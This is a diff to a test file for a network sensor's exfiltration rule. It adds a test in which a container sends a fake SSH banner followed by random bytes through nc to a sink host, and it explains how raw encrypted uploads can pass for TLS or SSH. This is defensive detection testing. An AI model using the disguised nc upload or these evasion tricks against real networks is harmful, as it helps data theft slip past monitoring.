@@ -1,4 +1,6 @@
-"""A raw encrypted stream to port 443 dressed as TLS with five bytes.
+"""Raw encrypted streams dressed as the protocol their port expects.
+
+TLS: a raw encrypted stream to port 443 dressed as TLS with five bytes.
 
 TLS on 443 is expected traffic, so SL-EXF-002 speaks about port 443 only
 when the stream is not TLS. The sensor named a socket TLS when its first
@@ -8,7 +10,12 @@ the upload passed for TLS: no alert. Every TLS connection starts with a
 hello in a handshake record; now only that names a socket TLS.
 
 Beside it, a real TLS upload (openssl s_client, a TLS 1.3 ClientHello) to
-the same port from another container stays TLS: no SL-EXF-002 for it."""
+the same port from another container stays TLS: no SL-EXF-002 for it.
+
+SSH: an identification line (`SSH-2.0-...`) in a packet of its own, then
+the raw stream, to an SSH port. The line named the socket SSH for good;
+now the socket's next packet must start SSH's key exchange (KEXINIT, in
+cleartext in every SSH connection), else the socket is raw from there."""
 
 from __future__ import annotations
 
@@ -59,5 +66,29 @@ def test_a_tls_record_header_does_not_pass_a_raw_stream_for_tls(base: Path, dock
         assert sum(d["source"]["bytes"] for d in flows) >= UPLOAD
         assert not [d for d in s.docs() if _exf2(d, real)], "a real TLS upload to 443 raised SL-EXF-002"
         assert {f["network"].get("protocol") for f in flows} >= {"tls"}, [f["network"] for f in flows]
+    finally:
+        assert s.stop() == 0, s.stderr_text()
+
+
+SSH_PORT = 9004  # a sink port, made an SSH port for the test
+SSH_PORTS = f"[rules.SL-EXF-002]\nssh_ports = [22, 2222, {SSH_PORT}]\n"
+
+
+def test_an_ssh_banner_does_not_pass_a_raw_stream_for_ssh(base: Path, docker: Docker, net: SinkNet) -> None:
+    s = SensorProc(base, docker.sock, name="sshlook", extra_config=SSH_PORTS)
+    s.start()
+    try:
+        # the banner, a pause (its own packet, as a real client sends it), the stream
+        fake = run_container(
+            docker,
+            net,
+            f"{{ echo 'SSH-2.0-OpenSSH_9.6'; sleep 1; openssl rand {UPLOAD}; }} | nc -w 5 {SINK_IP} {SSH_PORT}",
+            wait=True,
+        )
+        a = s.wait_for(lambda d: _exf2(d, fake), what="SL-EXF-002 for the stream behind a banner", timeout=20)
+        ev = a["sluice"]["evidence"]
+        assert ev["kind"] == "raw_encrypted_stream" and ev["protocol_hint"] is None, ev
+        assert ev["bytes"] >= UPLOAD // 2, ev
+        assert a["destination"]["port"] == SSH_PORT
     finally:
         assert s.stop() == 0, s.stderr_text()
